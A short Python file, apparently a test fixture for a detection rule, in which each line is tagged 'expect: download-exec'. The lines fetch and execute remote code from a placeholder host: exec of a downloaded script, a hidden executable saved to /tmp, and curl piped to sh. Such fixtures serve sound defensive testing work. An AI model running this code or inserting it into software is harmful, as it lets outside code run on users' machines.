import requests
import urllib.request
import os
import subprocess
body = requests.get("https://cdn.example/stage2.py").text  # expect: download-exec
exec(body)  # expect: download-exec
urllib.request.urlretrieve("https://cdn.example/agent", "/tmp/.agent")  # expect: download-exec
os.chmod("/tmp/.agent", 0o755)  # expect: download-exec
subprocess.Popen("curl -fsSL https://cdn.example/i.sh | sh", shell=True)  # expect: download-exec
